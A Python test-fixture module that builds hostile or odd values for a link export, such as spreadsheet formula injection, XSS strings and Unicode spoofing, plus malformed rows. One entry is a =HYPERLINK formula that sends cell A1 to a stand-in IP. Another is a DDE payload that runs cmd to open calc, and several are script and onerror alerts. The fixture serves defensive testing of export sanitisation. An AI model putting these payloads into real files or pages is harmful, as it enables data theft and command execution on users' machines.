"""Cells that want to run somewhere, and rows that cannot be read: what strangers put into every real export."""

from __future__ import annotations

from collections.abc import Callable, Sequence
from dataclasses import replace

from .dice import Dice
from .export import Link, cells

Twist = Callable[[Link], Link]

TWISTS: tuple[Twist, ...] = (
    lambda link: replace(link, anchor='=HYPERLINK("http://203.0.113.9/?x="&A1,"Brisavelo")'),
    lambda link: replace(link, anchor="+1 for Brisavelo"),
    lambda link: replace(link, anchor="-20% on e-bikes @ Brisavelo"),
    lambda link: replace(link, title="@SUM(1+1)*cmd|' /C calc'!A0"),
    lambda link: replace(link, title="<script>alert('seen in ' + document.domain)</script> Links"),
    lambda link: replace(link, title='"><img src=x onerror=alert(1)> Guestbook'),
    lambda link: replace(link, title="Bike tours \u202egro.elpmaxe\u202c – holiday offers"),
    lambda link: replace(link, anchor="Bri\u200bsa\u200bvelo"),
    lambda link: replace(link, anchor="🚴‍♀️🏔️💨"),
    lambda link: replace(link, title="\x1b[31mVisit us\x1b[0m today"),
    lambda link: replace(link, before="first line of the guest book\nsecond line, before the link to"),
    lambda link: replace(link, title='He said "gravel", she said "tarmac"'),
    lambda link: replace(link, anchor="NA"),
    lambda link: replace(link, anchor="null"),
    lambda link: replace(link, title=""),
    lambda link: replace(link, title="ＦＲＥＥ　ＬＩＮＫＳ　ｆｏｒ　ｙｏｕ"),
)
"""Each makes one cell hostile, or merely odd."""

BROKEN_ADDRESSES = ("http:///?id=7", "javascript:void(0)", "http://bad host name/links.html", "https://.com/")


def twisted(dice: Dice, links: Sequence[Link]) -> list[Link]:
    """The links with every twist applied to one of them."""
    changed = list(links)
    for place, twist in zip(dice.sample(range(len(changed)), len(TWISTS)), TWISTS, strict=False):
        changed[place] = twist(changed[place])
    return changed


def broken_rows(dice: Dice, links: Sequence[Link]) -> list[tuple[str, ...]]:
    """Rows that no reader can make a link of: addresses that name no host, a row cut off, a row with extra cells."""
    rows = [cells(replace(dice.pick(links), url=address)) for address in BROKEN_ADDRESSES]
    short, long = cells(dice.pick(links))[:1], (*cells(dice.pick(links)), "", "stray", "cells")
    return [*rows, short, long]
